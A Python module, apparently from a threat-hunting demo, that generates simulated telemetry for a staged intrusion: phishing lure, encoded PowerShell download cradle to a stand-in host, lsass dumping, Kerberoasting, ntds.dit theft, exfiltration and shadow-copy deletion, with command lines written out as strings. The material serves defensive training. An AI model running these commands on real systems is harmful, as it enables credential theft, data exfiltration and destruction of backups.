"""The intrusion at Aurora Grid: from a mail on the fifth day before the end of the data to deleted shadow copies on the last night."""

from huntline.demo.fleet import Account, Device, Fleet, Role
from huntline.demo.internet import address_of
from huntline.demo.moments import MINUTE, SECOND
from huntline.demo.processes import Process, Session
from huntline.demo.rhythms.boot import SYSTEM
from huntline.demo.rhythms.chores import encode_command, open_process
from huntline.demo.rhythms.mail import deliver_mail
from huntline.demo.rhythms.windows import install_service
from huntline.demo.stage import Stage
from huntline.demo.storyline.alerts import raise_alert
from huntline.demo.tickets import issue_ticket

LURE_HOST = "handover-docs.example"
COMMAND_HOST = "cdn-gridsync.example"
DROP_HOST = "drop.paper-lantern.example"
SERVICE_NAME = "WksSvcX"

_STAGER = f"IEX (New-Object Net.WebClient).DownloadString('https://{COMMAND_HOST}/s/26')"
_HIDDEN = r"C:\ProgramData\Intel\Logs"
_QUESTIONS = (
    ("whoami", "whoami /all"),
    ("ipconfig", "ipconfig /all"),
    ("systeminfo", "systeminfo"),
    ("net", "net user /domain"),
    ("net", 'net group "Domain Admins" /domain'),
    ("nltest", "nltest /domain_trusts /all_trusts"),
    ("quser", "quser"),
)


def victim(fleet: Fleet) -> Device:
    """Return the laptop at which it begins: of a shift worker, so that it is on every day."""
    return [device for device in fleet.all_of(Role.LAPTOP) if device.works_daily][1]


def _implant_path(stage: Stage) -> str:
    owner = stage.device.owner
    return rf"C:\Users\{owner.account.name if owner else ''}\AppData\Roaming\GridSync\gsupd.exe"


def open_lure(stage: Stage) -> None:
    """The first day: mail, download, mshta, PowerShell, discovery, persistence."""
    person = stage.device.owner
    assert person is not None  # noqa: S101 (a laptop has one)
    url = f"https://{LURE_HOST}/handover/2026/Shift_handover.iso"
    with stage.step("lure-mail"):
        deliver_mail(
            stage,
            stage.at(9, 58, 12),
            person,
            sender=f"control-room@{LURE_HOST}",
            display="Control Room",
            subject="인계서 확인 요청 (Shift handover)",
            url=url,
        )
    moment = stage.at(10, 12, 31)
    explorer, browser = stage.lasting("explorer", moment), stage.lasting("msedge", moment)
    with stage.step("lure-download"):
        stage.connect(browser, moment - 5 * SECOND, LURE_HOST)
        path = rf"C:\Users\{person.account.name}\Downloads\Shift_handover.iso"
        stage.write(browser, moment, path, FileOriginUrl=url, FileOriginReferrerUrl=f"https://{LURE_HOST}/handover/")
    with stage.step("mshta"):
        moment += 97 * SECOND
        command = rf'"C:\Windows\System32\mshta.exe" https://{LURE_HOST}/view/form.hta'
        form = stage.spawn("mshta", explorer, moment, command, lasts=340)
        stage.load(form, moment + SECOND // 4, "vbscript")
        answer: dict[str, object] = {
            "DnsQueryString": LURE_HOST,
            "DnsQueryResult": [{"Result": address_of(stage.seed, LURE_HOST)}],
        }
        stage.event(form, moment + SECOND // 3, "DnsQueryResponse", answer, RemoteUrl=LURE_HOST)
        stage.connect(form, moment + SECOND // 2, LURE_HOST)
    with stage.step("encoded-powershell"):
        moment += 4 * SECOND
        command = f"powershell.exe -nop -w hidden -enc {encode_command(_STAGER)}"
        shell = stage.spawn("powershell", form, moment, command, lasts=3600)
        stage.load(shell, moment + SECOND, "amsi")
        stage.connect(shell, moment + 2 * SECOND, COMMAND_HOST)
        stage.event(shell, moment + 2 * SECOND, "PowerShellCommand", {"Command": "Invoke-Expression"})
    with stage.step("implant"):
        stage.write(shell, moment + 9 * SECOND, _implant_path(stage), key="gsupd")
    _look_around(stage, shell, moment + 7 * MINUTE)
    _persist(stage, shell, moment + 21 * MINUTE)


def _look_around(stage: Stage, shell: Process, moment: int) -> None:
    with stage.step("discovery"):
        for key, command in _QUESTIONS:
            moment = stage.later(moment, 12, 40)
            process = stage.spawn(key, shell, moment, command, lasts=8)
            if key == "net":
                stage.spawn(
                    "net1",
                    process,
                    moment + SECOND // 8,
                    command.replace("net ", r"C:\Windows\system32\net1 ", 1),
                    lasts=6,
                )
                stage.load(process, moment + SECOND // 9, "samcli")


def _persist(stage: Stage, shell: Process, moment: int) -> None:
    path, account = _implant_path(stage), shell.session.account
    run_key = rf"HKEY_CURRENT_USER\{account.sid}\Software\Microsoft\Windows\CurrentVersion\Run"
    with stage.step("run-key"):
        stage.set_value(shell, moment, key=run_key, name="GridSync Update", data=f'"{path}" -q')
    raise_alert(
        stage,
        moment + 6 * MINUTE,
        shell,
        title="Anomaly detected in ASEP registry",
        category="Persistence",
        severity="Low",
        technique="T1547.001",
        registry=(run_key, "GridSync Update", path),
    )
    moment += 4 * MINUTE
    with stage.step("scheduled-task"):
        task = r"\GridSync\Update"
        command = rf'schtasks.exe /create /f /tn "GridSync\Update" /tr "{path} --svc" /sc hourly /ru SYSTEM'
        create = stage.spawn("schtasks", shell, moment, command, lasts=3)
        content = f"<Exec><Command>{path}</Command><Arguments>--svc</Arguments></Exec>"
        stage.event(
            create,
            moment + SECOND,
            "ScheduledTaskCreated",
            {"TaskName": task, "TaskContent": content, "SubjectUserName": account.name},
        )
        stage.set_value(
            stage.lasting("netsvcs", moment),
            moment + SECOND,
            key=r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\GridSync\Update",
            name="Id",
            data="{6C1F0A52-77D1-4E0B-9A51-2B8F60C9D1E4}",
        )


def call_home(stage: Stage) -> None:
    """Every day from then on: the Run key starts the implant, which calls home about every forty minutes."""
    with stage.step("beacon"):
        explorer = stage.boots[0]["explorer"]
        moment = max(stage.later(explorer.start, 20, 60), stage.at(10, 50) if stage.day_of_storyline == 0 else 0)
        implant = stage.spawn(
            "gsupd", explorer, moment, f'"{_implant_path(stage)}" -q', end=stage.uptimes[0].end - MINUTE
        )
        stage.boots[0]["gsupd"] = implant
        while (moment := stage.later(moment, 34 * 60, 46 * 60)) < implant.end:
            stage.connect(implant, moment, COMMAND_HOST)


def steal_credentials(stage: Stage) -> None:
    """The second day: lsass.exe is dumped, service tickets are asked for, and the file server is next."""
    moment = stage.at(14, 32, 8)
    lsass = stage.lasting("lsass", moment)
    with stage.step("lsass-dump"):
        task = stage.lasting("netsvcs", moment)
        implant = stage.spawn("gsupd", task, moment, f'"{_implant_path(stage)}" --svc', session=SYSTEM, lasts=200)
        dump = rf"{_HIDDEN}\gfx.dmp"
        command = rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
        tool = stage.spawn("rundll32", implant, moment + 12 * SECOND, command, lasts=9)
        stage.load(tool, moment + 13 * SECOND, "comsvcs")
        open_process(stage, tool, moment + 13 * SECOND + 3, lsass, 0x1FFFFF)
        stage.write(tool, moment + 15 * SECOND, dump)
    moment = stage.at(15, 5, 40)
    with stage.step("kerberoast"):
        controller, account = stage.fleet.one(Role.DOMAIN_CONTROLLER), stage.lasting("explorer", moment).session.account
        hosts = [
            stage.fleet.one(role).name
            for role in (Role.SQL_SERVER, Role.WEB_SERVER, Role.BUILD_SERVER, Role.BACKUP_SERVER)
        ]
        services = [
            f"MSSQLSvc/{hosts[0]}:1433",
            *(f"HTTP/{host}" for host in hosts[1:]),
            *(f"HOST/{host}" for host in hosts),
        ]
        for service in services:
            moment = stage.later(moment, 4, 15)
            issue_ticket(stage, moment, account, service, client=stage.device, controller=controller, encryption="0x17")
    moment = stage.at(19, 11, 50)
    with stage.step("lateral-service"):
        target = stage.fleet.address(stage.fleet.one(Role.FILE_SERVER), stage.day)
        stage.connect(stage.lasting("gsupd", moment), moment, port=445, address=target)


def _enter(stage: Stage, moment: int, source: Device) -> Process:
    """A stolen service account signs in from another computer, copies a program and installs it as a service; returns its shell."""
    thief: Account = stage.fleet.services["svc-backup"]
    with stage.step("lateral-service"):
        stage.sign_in(
            stage.lasting("lsass", moment), moment, thief, "Network", source=source, protocol="NTLM", is_admin=True
        )
        path = r"C:\Windows\Temp\wkssvcx.exe"
        stage.write(
            stage.lasting("system", moment),
            moment + SECOND,
            path,
            key="wkssvcx",
            ShareName="ADMIN$",
            RequestProtocol="Smb",
            RequestAccountName=thief.name,
            RequestAccountDomain=thief.domain,
            RequestSourceIP=stage.fleet.address(source, stage.day),
        )
        services = stage.lasting("services", moment)
        install_service(stage, services, moment + 3 * SECOND, name=SERVICE_NAME, path=path, key="wkssvcx")
        service = stage.spawn("wkssvcx", services, moment + 4 * SECOND, path, lasts=3000)
        shell = stage.spawn("cmd", service, moment + 9 * SECOND, r"C:\Windows\System32\cmd.exe /q", lasts=2900)
        stage.spawn("whoami", shell, moment + 31 * SECOND, "whoami", lasts=1)
    return shell


def enter_file_server(stage: Stage) -> None:
    """The evening of the second day, on the file server."""
    _enter(stage, stage.at(19, 12, 4), victim(stage.fleet))


def steal_directory(stage: Stage) -> None:
    """The third night, on the domain controller."""
    moment = stage.at(1, 9, 22)
    shell = _enter(stage, moment, stage.fleet.one(Role.FILE_SERVER))
    with stage.step("ntds-theft"):
        moment += 4 * MINUTE
        folder = r"C:\ProgramData\Intel\ifm"
        command = rf'ntdsutil.exe "ac i ntds" "ifm" "create full {folder}" q q'
        tool = stage.spawn("ntdsutil", shell, moment, command, lasts=180)
        stage.load(tool, moment + SECOND, "ntdsapi")
        stage.write(tool, moment + 70 * SECOND, rf"{folder}\Active Directory\ntds.dit")
        stage.write(tool, moment + 95 * SECOND, rf"{folder}\registry\SYSTEM")


_NIGHTS = {2: (2, 24), 3: (1, 50), 4: (2, 15)}  # day of the storyline: hour and minute


def send_out(stage: Stage) -> None:
    """Three nights on the file server: a renamed tool sends what it finds to a host that nobody else talks to."""
    hour, minute = _NIGHTS[stage.day_of_storyline]
    moment = stage.at(hour, minute, spread=400)
    task = stage.lasting("netsvcs", moment)
    with stage.step("exfiltration"):
        path = stage.program("svchlp").path
        if stage.day_of_storyline == min(_NIGHTS):
            stage.write(stage.lasting("system", moment), moment - 9 * MINUTE, path, key="svchlp")
        command = rf'"{path}" copy D:\Shares remote:ag26 --transfers 16 --max-age 900d --config {_HIDDEN}\s.cfg -q'
        tool = stage.spawn("svchlp", task, moment, command, session=SYSTEM, lasts=1500)
        for number in range(12):
            stage.connect(tool, moment + (4 + 115 * number) * SECOND, DROP_HOST)


def delete_shadow_copies(stage: Stage) -> None:
    """The last night: an attempt to leave the file server without its shadow copies."""
    moment = stage.at(3, 1, 40)
    session: Session = SYSTEM
    with stage.step("shadow-copies"):
        shell = stage.spawn(
            "cmd",
            stage.lasting("netsvcs", moment),
            moment,
            "cmd.exe /c vssadmin delete shadows /all /quiet",
            session=session,
            lasts=9,
        )
        tool = stage.spawn("vssadmin", shell, moment + SECOND // 3, "vssadmin  delete shadows /all /quiet", lasts=6)
    raise_alert(
        stage,
        moment + 5 * MINUTE,
        tool,
        title="File backups were deleted",
        category="Impact",
        severity="Medium",
        technique="T1490",
    )
